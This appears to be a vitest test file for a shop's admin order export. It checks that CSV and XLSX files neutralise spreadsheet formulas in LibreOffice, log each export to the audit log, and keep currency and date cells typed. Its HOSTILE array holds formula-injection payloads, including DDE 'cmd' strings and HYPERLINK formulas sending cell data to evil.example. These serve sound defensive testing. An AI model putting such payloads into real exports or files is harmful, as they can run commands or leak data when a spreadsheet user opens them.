import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testDatabases } from "../support/databases";
import { type HostileShop, adminLogin, startShop } from "../support/hostile";
import { EXPORT_HEADERS } from "~/domain/orders/export-columns";
import { calcCells, openCsvInCalc, openInCalc } from "../support/libreoffice";
import { makeOrder } from "../support/orders";
import { unzip } from "../support/zip";
import { TEST_ADMIN, TEST_ADMIN_ENV } from "../support/test-accounts";

/** What a buyer (or a broken panel answer) can leave in the text an export writes out. */
const HOSTILE = [
  "=1+2",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "-1+cmd|' /C calc'!A0",
  '+1+HYPERLINK("http://evil.example","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3",
  "\t=1+2",
  "\r=1+2",
  "  =1+2",
  "priya;=1+2",
  "priya,=1+2",
  "priya|=1+2",
  "priya\t=1+2",
  "priya; -1+1",
  "x\r\n=2+2",
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
] as const;

const USER_AGENT = "ExportAuditTest/1.0 (operator's laptop)";

/**
 * The orders export through the real server, opened the way the operator
 * opens it: the CSV in LibreOffice Calc, splitting on every separator Calc
 * offers by default (comma, semicolon, tab, pipe); the .xlsx read as XML.
 * No cell may become a formula, and each export is in the audit log.
 */
describe.each(testDatabases())("orders export on $name", (kind) => {
  let shop: HostileShop;
  let cookie = "";
  let dir = "";

  // The CSV tests spend seconds in LibreOffice between downloads, about the server's 5 s keep-alive: the
  // next request can go out on the connection the server is closing at that moment ("other side
  // closed" before any answer). A browser sends such a GET again on a new connection; so does this.
  const download = async (query: string) => {
    const get = () =>
      fetch(`${shop.url}/api/admin/orders/export?${query}`, { headers: { cookie, "user-agent": USER_AGENT } });
    try {
      return await get();
    } catch (error) {
      if ((error as { cause?: { code?: string } }).cause?.code !== "UND_ERR_SOCKET") throw error;
      return get();
    }
  };

  beforeAll(async () => {
    shop = await startShop(kind, { ...TEST_ADMIN_ENV });
    cookie = await adminLogin(shop.url, TEST_ADMIN.username, TEST_ADMIN.password);
    dir = mkdtempSync(join(tmpdir(), "shop-export-"));
    for (const [i, text] of HOSTILE.entries()) {
      await makeOrder(shop.db.db, {
        customer_name: text,
        customer_phone: i % 2 ? text : "+919812345678",
        target: text,
        status: "delivered",
        profit_paise: i % 3 ? -1250 : 1250,
        panel_order_id: text,
        panel_status: text,
        panel_charge: text,
        panel_currency: text,
      });
    }
  });
  afterAll(async () => {
    await shop?.stop();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it(
    "CSV: LibreOffice finds no formula and no cell starting like one, however it splits",
    { timeout: 180_000 },
    async () => {
      const res = await download("range=all&format=csv");
      expect(res.status).toBe(200);
      const csv = await res.text();
      expect(csv.match(/\r\n"?BK/g)).toHaveLength(HOSTILE.length);

      const exported = join(dir, "export.csv");
      writeFileSync(exported, csv);
      // The harness must see a formula where there is one: a line the export would never write.
      const control = join(dir, "control.csv");
      writeFileSync(control, 'a,b\r\n=1+2,"x;=3+4"\r\n');
      const sheets = openCsvInCalc([exported, control], dir, "44/59/9/124,34,76,1");

      const controlCells = calcCells(sheets.get(control)!).flat();
      expect(controlCells.filter((c) => c.formula).map((c) => c.formula)).toEqual(["of:=1+2"]);

      const formulas = calcCells(sheets.get(exported)!)
        .flat()
        .filter((c) => c.formula);
      expect(formulas).toEqual([]);
      expect(sheets.get(exported)).not.toContain("table:formula");

      const rows = calcCells(sheets.get(exported)!);
      expect(rows).toHaveLength(HOSTILE.length + 1);
      for (const cell of rows.flat()) {
        expect(cell.formula, JSON.stringify(cell)).toBeNull();
        if (cell.type === "string") expect(cell.text.trimStart(), JSON.stringify(cell)).not.toMatch(/^[=+\-@]/);
      }
      // The hostile text is all there, as text the operator can read.
      const texts = rows.flat().map((c) => c.text);
      expect(texts).toContain("'=1+2");
      expect(texts).toContain("'-1+cmd|' /C calc'!A0");
      expect(texts).toContain("priya;'=1+2");
      // Profits stay numbers, negative ones included.
      expect(rows.slice(1).map((r) => r.find((c) => c.text === "-12.5" || c.text === "12.5")?.type)).toEqual(
        HOSTILE.map(() => "float"),
      );
    },
  );

  it("XLSX: every cell is a value, no formula element", async () => {
    const res = await download("range=all&format=xlsx");
    expect(res.status).toBe(200);
    const files = unzip(Buffer.from(await res.arrayBuffer()));
    const sheets = [...files.keys()].filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets).toEqual(["xl/worksheets/sheet1.xml"]);
    for (const [name, data] of files) {
      if (name.endsWith(".xml")) expect(data.toString("utf8"), name).not.toMatch(/<f[\s>/]/);
    }
    const sheet = files.get("xl/worksheets/sheet1.xml")!.toString("utf8");
    expect(sheet.match(/<row\b/g)).toHaveLength(HOSTILE.length + 1);
    expect(sheet).toContain("<v>=1+2</v>");
    expect(sheet).toContain("<v>-1+cmd|&apos; /C calc&apos;!A0</v>");
  });

  it("records each export in the audit log with its format, filters, rows, address and browser", async () => {
    const exports = () =>
      shop.db.db.selectFrom("audit_log").selectAll().where("action", "=", "orders.export").orderBy("id").execute();
    const before = (await exports()).length;
    // A count and an export that matches nothing are not exports.
    expect((await download("range=all&count=1")).status).toBe(200);
    expect((await download("range=all&q=no-such-order")).status).toBe(404);
    expect(await exports()).toHaveLength(before);

    await (await download("range=all")).text();
    const xlsx = await download(
      "range=custom&startDate=2000-01-01&endDate=2999-12-31&status=success&q=priya&format=xlsx",
    );
    expect(xlsx.status).toBe(200);
    await xlsx.arrayBuffer();

    const rows = (await exports()).slice(before);
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      expect(row).toMatchObject({
        actor: "owner",
        action: "orders.export",
        target_type: "orders",
        client_ip: "127.0.0.1",
        user_agent: USER_AGENT,
      });
    }
    expect(JSON.parse(rows[0]!.details!)).toEqual({
      format: "csv",
      rows: HOSTILE.length,
      filters: { range: "all", status: "all" },
    });
    expect(JSON.parse(rows[1]!.details!)).toEqual({
      format: "xlsx",
      rows: HOSTILE.filter((t) => t.includes("priya")).length,
      filters: { range: "custom", status: "delivered", q: "priya", startDate: "2000-01-01", endDate: "2999-12-31" },
    });
  });

  it(
    "matches a bank statement: profit net of refunds, UTR, paid and listed price, refund and its reference, plan and source, typed cells in LibreOffice",
    { timeout: 180_000 },
    async () => {
      const created = Date.UTC(2026, 0, 15, 6, 30); // 12:00 IST
      // ₹198.99 paid (listed ₹199), cancelled by its buyer: ₹189.04 refunded, ₹9.95 kept.
      await makeOrder(shop.db.db, {
        target: "statement.one",
        plan_name: "Popular Followers",
        price_paise: 19_899,
        listed_price_paise: 19_900,
        profit_paise: 19_899,
        status: "refunded",
        utr: "412345678901",
        paid_at: created + 120_000,
        paid_by: "bank-alert:email",
        refund_due_paise: 18_904,
        refund_fee_paise: 995,
        cancelled_by: "buyer",
        refunded_at: created + 86_400_000,
        refund_reference: "512345678901",
        created_at: created,
      });
      // ₹349 paid, the panel charged ₹49 and stopped at 600 of 1,000: ₹139.60 owed, ₹160.40 profit.
      await makeOrder(shop.db.db, {
        target: "statement.two",
        price_paise: 34_900,
        listed_price_paise: 34_900,
        profit_paise: 30_000,
        status: "refund_due",
        utr: "412345678902",
        paid_at: created + 60_000,
        paid_by: "owner",
        refund_due_paise: 13_960,
        refund_fee_paise: 0,
        cancelled_by: "panel",
        // As the panel sent it, in its currency: a number in the file, not text (issue 45).
        panel_charge: "0.7884",
        panel_currency: "USD",
        created_at: created - 1000,
      });

      const csv = (await (await download("range=all&q=statement.&format=csv")).text()).replace(/^\uFEFF/, "");
      const xlsx = Buffer.from(await (await download("range=all&q=statement.&format=xlsx")).arrayBuffer());
      const csvFile = join(dir, "statement.csv");
      const xlsxFile = join(dir, "statement.xlsx");
      writeFileSync(csvFile, csv);
      writeFileSync(xlsxFile, xlsx);
      // The phone is its digits, with no apostrophe in front.
      expect(csv.split("\r\n")[1]).toContain(',"9812345678",');

      const fromCsv = calcCells(openCsvInCalc([csvFile], dir, "44,34,76,1").get(csvFile)!);
      const fromXlsx = calcCells(openInCalc([xlsxFile], dir).get(xlsxFile)!);
      for (const [label, rows] of [
        ["csv", fromCsv],
        ["xlsx", fromXlsx],
      ] as const) {
        expect(
          rows[0]!.map((c) => c.text),
          label,
        ).toEqual(EXPORT_HEADERS);
        expect(rows, label).toHaveLength(3);
        const cell = (row: number, header: string) => rows[row]![EXPORT_HEADERS.indexOf(header)]!;
        // Newest first: the buyer's cancellation, then the partial delivery.
        expect(cell(1, "Target").text, label).toBe("statement.one");
        for (const [row, header, value] of [
          [1, "Price (₹)", "198.99"],
          [1, "Profit (₹)", "9.95"],
          [1, "Paid Amount (₹)", "198.99"],
          [1, "Listed Price (₹)", "199"],
          [1, "Refunded (₹)", "189.04"],
          [2, "Profit (₹)", "160.4"],
          [2, "Refund Due (₹)", "139.6"],
        ] as const) {
          const c = cell(row, header);
          // A number Calc can sum, shown with the ₹ format in the .xlsx.
          expect(c.type, `${label} ${header}`).toBe("float");
          expect(c.value, `${label} ${header}`).toBe(value);
          if (label === "xlsx") expect(c.text, header).toBe(`₹${Number(value).toFixed(2)}`);
        }
        for (const [row, header, text] of [
          [1, "UTR", "412345678901"],
          [1, "Refund Due (₹)", "N/A"],
          [1, "Refund Reference", "512345678901"],
          [1, "Plan Name", "Popular Followers"],
          [1, "Payment Source", "Bank alert (email)"],
          [2, "Refunded (₹)", "N/A"],
          [2, "Payment Source", "Operator (owner)"],
        ] as const) {
          expect(cell(row, header).text, `${label} ${header}`).toBe(text);
        }
      }
      // The panel's charge is a number Calc can sum, with every decimal the panel sent.
      for (const [label, rows] of [
        ["csv", fromCsv],
        ["xlsx", fromXlsx],
      ] as const) {
        const charge = rows[2]![EXPORT_HEADERS.indexOf("SMM Panel Charge")]!;
        expect(charge, label).toMatchObject({ type: "float", value: "0.7884" });
        expect(rows[1]![EXPORT_HEADERS.indexOf("SMM Panel Charge")]!.text, label).toBe("N/A");
      }
      expect(fromXlsx[2]![EXPORT_HEADERS.indexOf("SMM Panel Charge")]!.text).toBe("0.7884");
      // The .xlsx's dates are dates, in IST; its phone is the digits as text.
      const date = (row: number, header: string) => fromXlsx[row]![EXPORT_HEADERS.indexOf(header)]!;
      expect(date(1, "Created At")).toMatchObject({ type: "date", value: "2026-01-15T12:00:00" });
      expect(date(1, "Paid At")).toMatchObject({ type: "date", value: "2026-01-15T12:02:00" });
      expect(date(1, "Phone Number")).toMatchObject({ type: "string", text: "9812345678" });
    },
  );
});
